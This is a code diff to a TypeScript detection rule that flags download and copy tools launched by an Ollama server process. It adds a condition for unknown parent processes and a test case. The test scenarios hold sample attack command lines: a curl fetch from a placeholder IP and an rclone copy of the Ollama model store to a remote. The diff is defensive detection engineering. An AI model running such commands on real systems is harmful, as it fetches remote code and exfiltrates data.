@@ -1,6 +1,6 @@
 import { all, any, contains, ends } from "../../model/condition.ts";
 import type { Detection } from "../../model/detection.ts";
-import { STARTED_BY_SERVER } from "./conditions.ts";
+import { STARTED_BY_NOBODY_KNOWN, STARTED_BY_SERVER } from "./conditions.ts";
 import { STABLE_1 } from "./lifecycle.ts";
 import { LOOK_FOR_TRACES, REBUILD, ROTATE_SECRETS, STOP_SERVER, UPGRADE } from "./measures.ts";
 import { child, otherParents, run, story } from "./story.ts";
@@ -37,7 +37,10 @@ export const DOWNLOAD_TOOL_CHILD: Detection = {
   selections: {
     tool: {
       class: "process",
-      where: all(any(STARTED_BY_SERVER, contains("unit", "ollama.service")), ends("executable", ...TOOLS)),
+      where: all(
+        any(STARTED_BY_SERVER, STARTED_BY_NOBODY_KNOWN, contains("unit", "ollama.service")),
+        ends("executable", ...TOOLS),
+      ),
     },
   },
   correlation: { kind: "each", of: "tool", by: ["observer", "executable"], withinSeconds: 3_600 },
@@ -74,6 +77,13 @@ export const DOWNLOAD_TOOL_CHILD: Detection = {
         parentExecutable: String.raw`C:\Ollama\ollama.exe`,
         parentCommandLine: "ollama.exe serve",
         product: "sysmon",
+      }),
+    ]),
+    story("under the service's account, in a log that began after the server", () => [
+      child(0, "/usr/bin/curl", "curl -s http://203.0.113.9/x", {
+        parentExecutable: null,
+        parentCommandLine: null,
+        unit: null,
       }),
     ]),
     story("rclone takes the store away", () => [child(0, "/usr/bin/rclone", "rclone copy /usr/share/ollama remote:")]),
